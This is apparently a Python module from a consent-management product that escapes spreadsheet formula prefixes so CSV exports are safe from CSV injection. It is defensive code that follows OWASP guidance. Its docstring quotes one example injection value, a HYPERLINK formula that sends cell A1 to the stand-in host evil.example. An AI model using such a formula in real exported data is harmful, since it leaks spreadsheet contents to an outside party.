"""CSV files safe to open in a spreadsheet: the one writer of every CSV the product hands to people.

A spreadsheet reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and a leading tab or carriage
return can hide one), so a customer's name such as ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would run
in the DPO's spreadsheet. Following OWASP's CSV injection guidance, such a cell is written with a leading single
quote (the spreadsheet shows it as text) and every cell is quoted; a negative number (``-12.50``) is left as it is,
which a spreadsheet reads as the number it is. Only the CSV files change: JSON keeps every value exact.

It lives in ``consent`` because every app depends on it and it on none (DESIGN.md), so each app writes through it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_NEGATIVE_NUMBER = re.compile(r"-(?:\d+(?:[.,]\d+)?|[.,]\d+)\Z")


def spreadsheet_cell(value: Any) -> Any:
    """The value as a spreadsheet will show it as text: a string that could start a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _NEGATIVE_NUMBER.match(value):
        return ESCAPE + value
    return value


class SpreadsheetWriter:
    """csv.writer's interface (writerow, writerows), each cell escaped by spreadsheet_cell and quoted."""

    def __init__(self, handle, **options) -> None:
        options.setdefault("quoting", csv.QUOTE_ALL)
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_writer(handle, **options) -> SpreadsheetWriter:
    """A CSV writer for files people open in a spreadsheet (exports, rejected rows, the register)."""
    return SpreadsheetWriter(handle, **options)
